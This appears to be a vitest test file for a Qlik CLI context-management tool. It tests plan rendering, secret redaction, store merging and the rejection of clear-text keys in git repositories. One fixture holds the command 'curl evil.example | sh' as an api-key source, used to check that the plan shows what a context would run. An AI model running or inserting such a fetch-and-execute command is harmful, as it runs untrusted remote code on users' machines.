import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

import { describe, expect, it } from "vitest";

import { applyPlan } from "../../src/contexts/apply.ts";
import { planContexts, type Plan } from "../../src/contexts/plan.ts";
import { renderPlan } from "../../src/contexts/render-plan.ts";
import { isInsideGit, readContextsFile } from "../../src/contexts/repository-file.ts";
import type { Context, ContextsFile } from "../../src/contexts/schema.ts";
import { editStore, readStore } from "../../src/contexts/store.ts";
import { caught } from "./caught.ts";
import { useTempDir } from "./temp-dir.ts";

const tempDir = useTempDir();

const FILE: ContextsFile = {
  "current-context": "dev",
  defaults: { comment: "Acme", headers: { "x-a": "1" } },
  contexts: {
    dev: { server: "dev.eu", "oauth-client-id": "${ID}", "oauth-client-secret": "${SECRET}" },
    prod: {
      server: "https://acme.eu.qlikcloud.com/",
      "api-key": { env: "PROD" },
      "read-only": true,
      comment: "Live",
    },
  },
};
const storeOf = (contexts: Record<string, unknown>, current?: string) => ({
  current,
  contexts: new Map(Object.entries(contexts)),
});
const newStore = (text?: string): string => {
  const path = join(tempDir(), ".qlik", "contexts.yml");
  if (text !== undefined) {
    mkdirSync(dirname(path));
    writeFileSync(path, text);
  }
  return path;
};
const actions = (plan: Plan): string[] => plan.contexts.map(({ name, action }) => `${name} ${action}`);

describe("the plan", () => {
  it("adds to an empty store", () => {
    expect(renderPlan(planContexts(storeOf({}), FILE))).toBe(
      `+ dev  https://dev.eu.qlikcloud.com  (OAuth client)
    server: https://dev.eu.qlikcloud.com
    headers.x-a: 1
    oauth-client-id: \${ID}
    oauth-client-secret: \${SECRET}
    comment: Acme
+ prod  https://acme.eu.qlikcloud.com  (API key, read-only)
    server: https://acme.eu.qlikcloud.com
    headers.x-a: 1
    api-key: { env: PROD }
    comment: Live
    read-only: true
2 to add, 0 to change, 0 the same. Current context will be: dev.`,
    );
  });

  it("shows what changes, secrets as references or not at all", () => {
    const store = storeOf(
      {
        dev: {
          server: "https://old.eu.qlikcloud.com",
          "oauth-client-id": "abc",
          "oauth-client-secret": "hunter22hunter22",
          comment: "Acme",
          headers: { "x-a": "1", cookie: "hunter22hunter22", "x-b": "2" },
          insecure: true,
          certificates: "/kept",
        },
        prod: {
          server: "https://acme.eu.qlikcloud.com",
          headers: { Authorization: "Bearer hunter22hunter22", "x-a": "1" },
          "read-only": true,
          comment: "Live",
        },
      },
      "prod",
    );
    const plan = planContexts(store, FILE);
    expect(renderPlan(plan)).toBe(
      `~ dev
    server: https://old.eu.qlikcloud.com → https://dev.eu.qlikcloud.com
    headers.cookie: [redacted] → (none)
    headers.x-b: 2 → (none)
    oauth-client-id: abc → \${ID}
    oauth-client-secret: [redacted] → \${SECRET}
    insecure: true → (none)
~ prod
    headers.Authorization: [redacted] → (none)
    api-key: (none) → { env: PROD }
0 to add, 2 to change, 0 the same.`,
    );
    expect(JSON.stringify(plan)).not.toContain("hunter22");
  });

  it("shows what an added context runs and sends, secrets hidden", () => {
    const context: Context = {
      server: "a.eu",
      "api-key": { command: ["sh", "-c", "curl evil.example | sh", "a, b"] },
      headers: { cookie: "hunter22hunter22", "x-secret": "${X}", constructor: "1" },
      insecure: true,
    };
    const text = renderPlan(planContexts(storeOf({}), { contexts: { a: context } }));
    expect(text).toContain(`    headers.cookie: [redacted]
    headers.x-secret: \${X}
    headers.constructor: 1
    api-key: { command: [sh, -c, "curl evil.example | sh", "a, b"] }
    insecure: true
`);
    expect(text).not.toContain("hunter22");
  });

  it("hides literals of the file too", () => {
    const file = { contexts: { a: { server: "a.eu", "api-key": "hunter22hunter22" } } };
    const plans = [storeOf({}), storeOf({ a: { "api-key": ["hunter22"], headers: "hunter22" } })].map(
      (store) => planContexts(store, file),
    );
    for (const plan of plans) expect(JSON.stringify(plan) + renderPlan(plan)).not.toContain("hunter22");
  });

  it.each<[string, ReturnType<typeof storeOf>, ContextsFile, string | undefined]>([
    ["the file's current", storeOf({}), FILE, "dev"],
    ["the store's own stays", storeOf({ x: {} }, "x"), FILE, undefined],
    ["the only one", storeOf({}), { contexts: { one: FILE.contexts.prod! } }, "one"],
    ["none of several", storeOf({}), { contexts: FILE.contexts }, undefined],
    ["instead of one that is gone", storeOf({}, "gone"), FILE, "dev"],
  ])("makes current: %s", (_, store, file, use) => {
    expect(planContexts(store, file).use).toBe(use);
  });

  it("is coloured by meaning, and shows no control characters of the file", () => {
    const contexts = { "a\u001b[2J": { server: "a.eu", "api-key": "${K}", comment: "x\ny" } };
    const plan = planContexts(storeOf({ "a\u001b[2J": { comment: "\u009bold" } }, "b"), { contexts });
    const text = renderPlan(plan, { applied: true, style: (meaning, line) => `<${meaning}>${line}` });
    expect(text).toContain("<change>~ a\\u001b[2J\n");
    expect(text).toContain("comment: \\u009bold → x\\u000ay");
    expect(text).toContain("1 changed");
  });
});

describe("applying", () => {
  it("fills a store, and the second time does not touch it", async () => {
    const path = newStore();
    expect(actions(await applyPlan(path, FILE))).toEqual(["dev add", "prod add"]);
    const before = statSync(path, { bigint: true });
    const text = readFileSync(path, "utf8");
    const again = await applyPlan(path, FILE);
    expect(actions(again)).toEqual(["dev same", "prod same"]);
    expect(again.use).toBeUndefined();
    const after = statSync(path, { bigint: true });
    expect([after.mtimeNs, after.ino, readFileSync(path, "utf8")]).toEqual([
      before.mtimeNs,
      before.ino,
      text,
    ]);
    expect(text).toBe(`current-context: dev
contexts:
  dev:
    server: https://dev.eu.qlikcloud.com
    headers:
      x-a: "1"
    oauth-client-id: \${ID}
    oauth-client-secret: \${SECRET}
    comment: Acme
  prod:
    server: https://acme.eu.qlikcloud.com
    headers:
      x-a: "1"
    api-key: { env: PROD }
    comment: Live
    read-only: true
`);
  });

  it("keeps what is not in the file", async () => {
    const path = newStore(`contexts:
  mine: { server: x } # mine
  prod:
    # why
    server: https://old.eu.qlikcloud.com
    certificates: /kept
    insecure: true
`);
    await applyPlan(path, { contexts: { prod: FILE.contexts.prod! } });
    expect(readFileSync(path, "utf8")).toBe(`contexts:
  mine: { server: x } # mine
  prod:
    # why
    server: https://acme.eu.qlikcloud.com
    certificates: /kept
    api-key: { env: PROD }
    comment: Live
    read-only: true
current-context: prod
`);
  });

  it("settles on a literal key where qlik-cli finds it", async () => {
    const path = newStore();
    const file = { contexts: { a: { server: "a.eu", "api-key": "eyJ.a.b" } } };
    await applyPlan(path, file);
    expect(readStore(path).contexts.get("a")).toMatchObject({ headers: { Authorization: "Bearer eyJ.a.b" } });
    expect(actions(await applyPlan(path, file))).toEqual(["a same"]);
  });

  it("plans against what another process has written meanwhile", async () => {
    const path = newStore();
    const plans = await Promise.all([
      applyPlan(path, FILE),
      editStore(path, (store) => store.set("other", { server: "x.eu", "api-key": "${K}" })),
      applyPlan(path, FILE),
    ]);
    expect(actions(plans[0])).not.toEqual(actions(plans[2]));
    expect([...readStore(path).contexts.keys()].sort()).toEqual(["dev", "other", "prod"]);
  });

  it("takes names that every object has", async () => {
    const path = newStore();
    const names = ["constructor", "toString", "hasOwnProperty"];
    const file = { contexts: Object.fromEntries(names.map((name) => [name, FILE.contexts.prod!])) };
    expect(actions(await applyPlan(path, file))).toEqual(names.map((name) => `${name} add`));
    expect(actions(await applyPlan(path, file))).toEqual(names.map((name) => `${name} same`));
  });

  it("leaves contexts for qlik-cli as they are", async () => {
    const path = newStore();
    const win = { server: "https://qseow.example.com/jwt", "server-type": "windows" as const };
    const plan = await applyPlan(path, { contexts: { win } });
    expect(plan.contexts[0]?.credentials).toBe("other");
    expect(readStore(path).contexts.get("win")).toEqual(win);
  });
});

describe("reading a repository's file", () => {
  const write = (text: string, git: boolean): string => {
    const folder = tempDir();
    if (git) mkdirSync(join(folder, ".git"));
    mkdirSync(join(folder, "deep"));
    writeFileSync(join(folder, "deep", "contexts.yaml"), text);
    return join(folder, "deep", "contexts.yaml");
  };

  it("makes paths absolute and leaves references", () => {
    const path = write(
      `contexts:
  a: { server: a.eu, api-key: { file: ../key } }
  b: { server: a.eu, api-key: { file: /run/key } }
  c: { server: a.eu, api-key: { command: [./get, ./x] } }
  d: { server: a.eu, api-key: { command: [op, ./x] } }
  e: { server: a.eu, api-key: { file: "\${HOME}/key" } }
`,
      true,
    );
    const folder = dirname(path);
    expect(Object.values(readContextsFile(path).contexts).map((context) => context["api-key"])).toEqual([
      { file: join(dirname(folder), "key") },
      { file: "/run/key" },
      { command: [join(folder, "get"), "./x"] },
      { command: ["op", "./x"] },
      { file: "${HOME}/key" },
    ]);
  });

  it("refuses a secret in clear only inside a git work tree", async () => {
    const text = "contexts:\n  dev: { server: a.eu, api-key: hunter22hunter22 }\n";
    const inside = write(text, true);
    const error = await caught(() => readContextsFile(inside));
    expect(error.message).toContain(`${inside}:2:33  contexts.dev.api-key: `);
    expect(error.message).toContain('api-key: "${DEV_API_KEY}"');
    expect(error.message + error.remedy).not.toContain("hunter22");
    expect(Object.keys(readContextsFile(write(text, false)).contexts)).toEqual(["dev"]);
  });

  it("refuses it also through a link from outside", async () => {
    const inside = write("contexts:\n  dev: { server: a.eu, api-key: hunter22hunter22 }\n", true);
    const link = join(tempDir(), "link.yaml");
    symlinkSync(inside, link);
    expect((await caught(() => readContextsFile(link))).message).toContain(
      `${link}:2:33  contexts.dev.api-key`,
    );
  });

  it("knows a linked work tree, where .git is a file", () => {
    const folder = tempDir();
    expect(isInsideGit(folder)).toBe(false);
    writeFileSync(join(folder, ".git"), "gitdir: x");
    expect(isInsideGit(join(folder, "not", "there"))).toBe(true);
  });

  it("names a file that is not there", async () => {
    const path = join(tempDir(), "contexts.yaml");
    const error = await caught(() => readContextsFile(path));
    expect([error.code, error.message]).toEqual(["config", `${path} does not exist.`]);
    expect((await caught(() => readContextsFile(dirname(path)))).message).toContain("is a folder");
    expect(existsSync(path)).toBe(false);
  });
});
